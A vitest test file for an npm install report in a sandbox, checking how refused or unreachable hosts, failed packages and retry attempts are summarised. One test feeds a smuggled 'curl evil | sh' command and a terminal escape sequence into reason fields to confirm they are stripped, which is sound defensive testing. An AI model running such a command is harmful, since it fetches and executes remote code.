import { describe, expect, it } from 'vitest';
import { InstallReport } from './install-report.js';

const deny = (host: string, port: number, reason: string) =>
  ({ type: 'proxy', decision: 'deny', method: 'CONNECT', host, port, reason }) as const;

describe('the hosts an install was refused, and the granted ones it could not reach', () => {
  it('suggests a flag only for a host not granted; a granted host that failed says why instead', () => {
    const report = new InstallReport();
    report.event(deny('cdn.example.com', 443, 'cannot resolve: ENOTFOUND'));
    report.event(deny('other.example.com', 443, 'not granted'));
    report.event(
      deny('intranet.example.com', 443, 'resolves to 10.0.0.5 (private network); grant it as an explicit IP'),
    );
    report.event({
      type: 'egress-failed',
      host: 'slow.example.com',
      port: 443,
      via: 'proxy',
      reason: 'ETIMEDOUT',
    });
    const hosts = report.hosts([
      'registry.example:443',
      'cdn.example.com',
      'intranet.example.com',
      'slow.example.com',
    ]);
    expect(hosts.refused).toEqual(['other.example.com:443']);
    expect(hosts.grants).toEqual(['other.example.com']);
    expect(hosts.unreachable).toEqual([
      'cdn.example.com: does not resolve from this host (ENOTFOUND)',
      'intranet.example.com: resolves to 10.0.0.5, which the address rules refuse (grant that address itself if you mean it: --install-allow-net 10.0.0.5)',
      'slow.example.com: connecting failed (ETIMEDOUT)',
    ]);
  });

  it('never suggests again a host already granted, compared as parsed hosts', () => {
    const report = new InstallReport();
    report.event(deny('cdn.example.com', 443, 'not granted'));
    report.event(deny('cdn.example.com', 8443, 'not granted'));
    const hosts = report.hosts(['CDN.Example.com.:443']);
    expect(hosts.grants).toEqual(['cdn.example.com:8443']);
    expect(hosts.unreachable).toEqual(['cdn.example.com: refused by the proxy on port 443']);
  });

  it('attack: a reason carrying text of its own is not shown', () => {
    const report = new InstallReport();
    report.event(deny('a.example.com', 443, 'cannot resolve: x; curl evil | sh'));
    report.event({ type: 'egress-failed', host: 'b.example.com', port: 443, reason: '\u001b[2J all fine' });
    expect(report.hosts([]).unreachable).toEqual([
      'a.example.com: does not resolve from this host',
      'b.example.com: connecting failed',
    ]);
  });
});

describe('an install step run again after an optional dependency was skipped', () => {
  const INSIDE = '/run/mcp-sandbox/npm/abc';
  const failed = (pkgPath: string) =>
    Buffer.from(
      `npm error code 1\nnpm error path ${pkgPath}\nnpm error command failed\nnpm error command sh -c node build.js\n`,
    );

  it('names the failed package by its path below the prefix, and nothing outside it', () => {
    const report = new InstallReport();
    report.output(failed(`${INSIDE}/node_modules/ssh2/node_modules/cpu-features`));
    expect(report.failedPath(INSIDE)).toBe('node_modules/ssh2/node_modules/cpu-features');
    const elsewhere = new InstallReport();
    elsewhere.output(failed('/etc/node_modules/x'));
    expect(elsewhere.failedPath(INSIDE)).toBeUndefined();
  });

  it("forgets what the skipped attempt tried and said: the hint and npm's lines are the new attempt's", () => {
    const report = new InstallReport();
    report.event(deny('nodejs.org', 443, 'not granted'));
    report.output(failed(`${INSIDE}/node_modules/opt-native`));
    report.nextAttempt();
    expect(report.hosts(['registry.example:443']).refused).toEqual([]);
    expect(report.failedPath(INSIDE)).toBeUndefined();
    report.output(Buffer.from('npm error code E404\nnpm error 404 Not Found\n'));
    expect(report.npmSaid().join('\n')).not.toContain('opt-native');
    expect(report.npmCause()).toBe('the registry has no such package or version (HTTP 404)');
  });
});
